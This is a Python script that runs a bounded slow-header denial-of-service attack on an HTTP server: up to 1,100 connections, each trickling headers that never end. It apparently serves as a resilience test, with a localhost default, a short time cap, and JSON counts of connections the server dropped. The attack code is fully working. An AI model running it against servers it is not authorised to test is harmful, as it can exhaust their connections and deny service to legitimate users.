#!/usr/bin/env python3
"""slow_clients.py - the slow-header attack on an HTTP server, bounded.

Opens N connections from one source address to HOST:PORT, each sending a
request line and then one header line every INTERVAL seconds, never ending
its headers, for at most DURATION seconds; then closes them all. Prints one
JSON line: how many connections were opened, how many the server closed
before the end, and how many were still open at the end.
"""
import argparse
import json
import resource
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", default="127.0.0.1")
    ap.add_argument("--connections", type=int, default=1100)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--duration", type=float, default=15.0)
    a = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(want, soft), max(want, hard)))
    conns, opened, closed = [], 0, 0
    start = time.monotonic()
    for _ in range(a.connections):
        if time.monotonic() - start > a.duration:
            break
        s = socket.socket()
        s.settimeout(1.0)
        try:
            s.bind((a.source, 0))
            s.connect((a.host, a.port))
            s.sendall(b"GET /api/v1/healthz HTTP/1.1\r\nHost: x\r\n")
            s.setblocking(False)
            conns.append(s)
            opened += 1
        except OSError:
            s.close()
            closed += 1
    n = 0
    while time.monotonic() - start < a.duration:
        time.sleep(a.interval)
        n += 1
        alive = []
        for s in conns:
            try:
                s.sendall(b"X-Slow-%d: 1\r\n" % n)
                try:
                    if s.recv(1) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
                alive.append(s)
            except OSError:
                s.close()
                closed += 1
        conns = alive
    still = len(conns)
    for s in conns:
        s.close()
    print(json.dumps({"opened": opened, "closed_by_server": closed, "open_at_end": still}))


if __name__ == "__main__":
    main()
